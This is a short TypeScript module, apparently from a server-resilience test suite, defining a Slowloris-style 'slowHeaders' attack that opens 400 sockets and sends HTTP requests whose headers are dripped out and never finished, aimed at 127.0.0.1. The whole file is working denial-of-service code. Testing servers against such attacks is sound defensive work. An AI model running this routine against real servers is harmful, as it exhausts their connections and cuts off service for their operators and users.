import type { Attack } from '../attack.ts'
import { drip, keepSockets } from '../sockets.ts'

/** 400 requests whose headers never end. */
export const slowHeaders: Attack = (target) =>
  keepSockets(target, {
    sockets: 400,
    begin: (socket) => {
      socket.write('GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ')
      drip(socket)
    },
  })
